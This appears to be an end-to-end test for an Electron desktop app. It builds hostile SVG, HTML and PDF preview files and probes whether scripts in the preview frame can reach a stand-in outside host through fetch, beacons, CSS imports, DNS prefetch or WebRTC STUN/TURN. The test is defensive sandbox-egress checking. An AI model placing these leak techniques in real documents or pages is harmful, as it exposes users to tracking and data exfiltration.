import { join } from 'node:path';
import { _electron, type Frame, type Page } from 'playwright-core';
import { electronForTests } from '../../../build/electronForTests.mjs';
import { deskOf } from '../desk.ts';
import { inFolder, writePdf } from '../previewFiles.ts';

/** What the window and the preview's frame were able to try. */
export interface Seen {
  readonly window: string;
  readonly frame: string;
  /** Every word that the app called misspelt. */
  readonly misspelt: readonly string[];
}

const outside = 'http://198.51.100.7';

/** A first run, hostile previews, a pack and an exchange; then whatever a page can try to reach somebody. */
export async function journey(folder: string): Promise<Seen> {
  const { executablePath, args } = electronForTests();
  const app = await _electron.launch({ executablePath, args: [...args, '--store', join(folder, 'store')] });
  try {
    const page = await app.firstWindow();
    page.setDefaultTimeout(20_000);
    const answer = (paths: readonly string[]) =>
      app.evaluate(({ dialog }, filePaths) => {
        dialog.showOpenDialog = () => Promise.resolve({ canceled: false, filePaths: [...filePaths] });
        dialog.showSaveDialog = () => Promise.resolve({ canceled: false, filePath: filePaths[0] ?? '' });
      }, paths);
    const desk = deskOf(page);
    await desk.begin('Ada Byron');
    await desk.newRelease('June 2027 SEC Release');
    const misspelt = await misspeltIn(page);
    await desk.goTo('Evidence');
    await answer(await hostileFiles(folder));
    await desk.add('Attach files…');
    await page.getByText('Attached EV-001').waitFor();
    await desk.add('Leave as drafts');
    for (const [number, name] of ['evil.svg', 'evil.html', 'evil.pdf'].entries()) {
      await page.getByRole('button', { name: `EV-00${number + 1}@1`, exact: true }).click();
      await page.getByRole('region', { name: `Preview of ${name}` }).waitFor();
    }
    await page.frameLocator('aside iframe').getByText('Words of page 1').waitFor();
    const frame = page.frames().find((one) => one.url().startsWith('app://viewer/'));
    if (!frame) throw new Error('There is no viewer.');
    const inFrame = await reachOut(frame);
    await answer([join(folder, 'pack.pdf')]);
    await desk.goTo('Pack');
    await page.getByRole('button', { name: 'Export draft…' }).click();
    await page
      .getByText(/\d+ pages, draft/)
      .first()
      .waitFor();
    await answer([join(folder, 'shared.golive')]);
    await desk.goTo('DCC exchange');
    await desk.add('Send to the DCC…');
    await page.getByText('Wrote shared.golive').waitFor();
    return { window: await reachOut(page.mainFrame()), frame: inFrame, misspelt };
  } finally {
    await app.close();
  }
}

async function hostileFiles(folder: string): Promise<readonly string[]> {
  const script = `fetch('${outside}/x'); new Image().src = '${outside}/y'; new RTCPeerConnection()`;
  return [
    inFolder(
      folder,
      'evil.svg',
      `<svg xmlns="http://www.w3.org/2000/svg" width="300" height="100" onload="${script}"><script>${script}</script><style>@import url("${outside}/c.css");</style><image href="${outside}/i.png" width="9" height="9"/></svg>`,
    ),
    inFolder(
      folder,
      'evil.html',
      `<!doctype html><link rel="dns-prefetch" href="//leak.example"><script>${script}</script>`,
    ),
    await writePdf(join(folder, 'evil.pdf'), { script: `app.launchURL("${outside}/pdf")` }),
  ];
}

/** Types into a field as a person does, and reads beneath it what the app says of the words. */
async function misspeltIn(page: Page): Promise<readonly string[]> {
  const desk = deskOf(page);
  await desk.goTo('Criteria');
  await desk.add('Add criterion');
  const criterion = desk.side('criterion AC-01');
  const field = criterion.getByLabel('Wording', { exact: true });
  await field.click();
  await field.pressSequentially('Every colour was recieved by the DCC. ');
  const said = criterion.getByRole('group', { name: 'Spelling of Wording' });
  await said.waitFor();
  const words = await said.locator('q').allTextContents();
  await field.blur();
  await desk.saved();
  return words;
}

/** Tries every way out that a script has; what is left of WebRTC tells where it is, and to whom. */
function reachOut(frame: Frame): Promise<string> {
  return frame.evaluate(async (target) => {
    const tried: string[] = [];
    await fetch(`${target}/f`).catch(() => tried.push('fetch refused'));
    navigator.sendBeacon?.(`${target}/b`);
    new Image().src = `${target}/p.png`;
    const link = document.createElement('link');
    link.rel = 'preconnect';
    link.href = target;
    document.head.append(link);
    // A frame made by a script has interfaces of its own.
    const inner = document.createElement('iframe');
    document.body.append(inner);
    const connectionOf = (scope: unknown) => {
      try {
        return (scope as { RTCPeerConnection?: typeof RTCPeerConnection } | null)?.RTCPeerConnection;
      } catch {
        // The viewer's frame is a stranger even to frames that it makes.
        return undefined;
      }
    };
    for (const [name, scope] of [
      ['page', globalThis],
      ['inner frame', inner.contentWindow],
    ] as const) {
      const Connection = connectionOf(scope);
      if (!Connection) {
        tried.push(`no connection in the ${name}`);
        continue;
      }
      const iceServers = [
        { urls: 'stun:198.51.100.7:3478' },
        { urls: 'stun:leak.example:3478' },
        { urls: 'turn:198.51.100.7:443?transport=tcp', username: 'u', credential: 'p' },
      ];
      const connection = new Connection({ iceServers });
      connection.createDataChannel('x');
      const gathered = new Promise((resolve) => {
        connection.onicegatheringstatechange = () => connection.iceGatheringState === 'complete' && resolve(null);
        setTimeout(resolve, 3000);
      });
      await connection.setLocalDescription(await connection.createOffer());
      await gathered;
      connection.close();
      tried.push(`a connection in the ${name}`);
    }
    inner.remove();
    return tried.join(', ');
  }, outside);
}
